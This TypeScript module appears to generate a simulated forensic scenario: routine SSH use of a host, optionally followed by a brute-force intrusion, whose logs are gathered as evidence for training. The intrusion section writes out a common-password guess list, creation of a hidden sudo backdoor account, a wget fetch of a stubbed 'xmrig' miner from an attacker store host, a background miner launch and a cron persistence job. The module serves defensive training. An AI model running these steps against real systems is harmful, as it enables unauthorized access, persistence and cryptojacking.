import { buildPackage, rotate, startMachine, takeEvidence } from "./machine.ts";
import { guess, sshKey, sshPassword, sshTyping } from "./people.ts";
import { act, type Actor, inside, makeNetwork, makeRoot, pause } from "./world.ts";

const host = { name: "db-02", address: "192.0.2.10" };
const people = {
  admin: { name: "admin", address: "10.20.0.5" },
  clerk: { name: "clerk", address: "10.20.0.21" },
  noise: { name: "noise", address: "198.51.100.144" },
  intruder: { name: "intruder", address: "203.0.113.66" },
  second: { name: "second", address: "203.0.113.191" },
  store: { name: "store", address: "203.0.113.80" },
} satisfies Record<string, Actor>;

const evidence = [
  "var/log/auth.log",
  "var/log/auth.log.1.gz",
  "var/log/syslog",
  "var/log/cron.log",
  "var/log/cron.log.1.gz",
  "var/log/dpkg.log",
  "var/log/wtmp",
  "var/log/btmp",
];

const words = ["123456", "password", "admin", "12345678", "qwerty"];
const guesses: readonly (readonly [string, string])[] = [
  ...["root", "admin", "test", "ubuntu", "postgres"].flatMap((user) => words.map((word) => [user, word] as const)),
  ...["oracle", "123456", "oracle1", "Oracle2024", "oracle12"].map((word) => ["oracle", word] as const),
];

/** Work that goes on on every such machine: log-ins by key, an upgrade, a new account, a job, a forgotten password, passers-by. */
async function ordinaryMorning(): Promise<void> {
  const { admin, clerk, noise } = people;
  await sshKey(admin, host.address, "ops", "uptime");
  await sshPassword(clerk, host.address, "zhao", "Harbour-Lamp-51", "ls");
  await sshKey(admin, host.address, "ops", "sudo dpkg -i /srv/range-tool_1.0-2_all.deb");
  await act(noise, `exec 3<>/dev/tcp/${host.address}/22; read -u 3 banner`);
  await sshPassword(noise, host.address, "user", "user");
  await sshPassword(clerk, host.address, "zhao", "Harbour-lamp-51");
  await sshPassword(clerk, host.address, "zhao", "Harbor-Lamp-51");
  await sshPassword(clerk, host.address, "zhao", "Harbour-Lamp-51", "ls -l; cat /etc/motd");
}

async function ordinaryAfternoon(): Promise<void> {
  const { admin, clerk } = people;
  await sshKey(
    admin,
    host.address,
    "ops",
    "sudo useradd -m -s /bin/bash li && echo li:Orchard-Gate-77 | sudo chpasswd",
  );
  await sshKey(admin, host.address, "ops", "echo '15 3 * * * tar -czf /var/tmp/home.tgz /home/ops' | crontab -");
  for (const wrong of ["Orchard-Gate-7", "orchard-gate-77", "Orchard-Gate77"])
    await sshPassword(clerk, host.address, "li", wrong);
  await sshKey(admin, host.address, "ops", "echo li:Willow-Stone-42 | sudo chpasswd");
  await sshPassword(clerk, host.address, "li", "Willow-Stone-42", "id");
  await sshKey(admin, host.address, "ops", "sudo systemctl status ssh >/dev/null 2>&1; df -h");
}

/** What the store serves is called a miner and only sleeps. */
function fillStore(): void {
  inside(
    "mkdir -p /srv/store && printf '#!/bin/sh\\nexec sleep 300\\n' >/srv/store/xmrig && chmod 755 /srv/store/xmrig",
  );
}

const miner = "/var/tmp/.cache/xmrig -o stratum+tcp://pool.xmr.example:4444 -u range.wallet.of.nobody -B";

/** The intrusion: guessing until a password fits, then an account, a job and a process that stay. */
async function intrude(): Promise<void> {
  const { intruder, second, store } = people;
  const serving = act(store, "cd /srv/store && python3 -m http.server 80 >/dev/null 2>&1", "", 150);
  const typed = [
    "id; uname -a",
    "cat /etc/passwd | tail -5",
    "sudo -l",
    "oracle123",
    "sudo useradd -m -s /bin/bash -G sudo sysbak",
    "echo sysbak:Zx9Zx9Zx9 | sudo chpasswd",
    "mkdir -p /var/tmp/.cache; cd /var/tmp/.cache",
    `sudo wget -q http://${store.address}/xmrig -O /var/tmp/.cache/xmrig`,
    "sudo chmod +x /var/tmp/.cache/xmrig",
    `sudo nohup ${miner} >/dev/null 2>&1 &`,
    `echo '* * * * * ${miner} >/dev/null 2>&1' | sudo crontab -`,
    "exit",
  ];
  await guess(intruder, host.address, guesses);
  await sshPassword(intruder, host.address, "oracle", "oracle123", "true");
  await pause(2);
  await sshTyping(intruder, host.address, "oracle", "oracle123", typed);
  await pause(4);
  await sshTyping(second, host.address, "sysbak", "Zx9Zx9Zx9", [
    "sudo su -",
    "Zx9Zx9Zx9",
    "ps aux | grep xmrig",
    "exit",
    "exit",
  ]);
  void serving;
}

/** Records a machine reached by SSH, with or without an intrusion. */
export async function sshScenario(folder: string, intrusion: boolean): Promise<void> {
  makeRoot();
  makeNetwork(host, Object.values(people));
  await startMachine("traditional");
  buildPackage();
  fillStore();
  await ordinaryMorning();
  if (intrusion) await guess(people.intruder, host.address, guesses.slice(0, 12));
  rotate();
  await ordinaryAfternoon();
  if (intrusion) await intrude();
  // Cron looks at its tables once a minute.
  await pause(intrusion ? 66 : 62);
  await sshKey(people.admin, host.address, "ops", "uptime");
  await pause(1);
  takeEvidence([...evidence, ...(intrusion ? ["home/oracle/.bash_history"] : [])], folder);
}
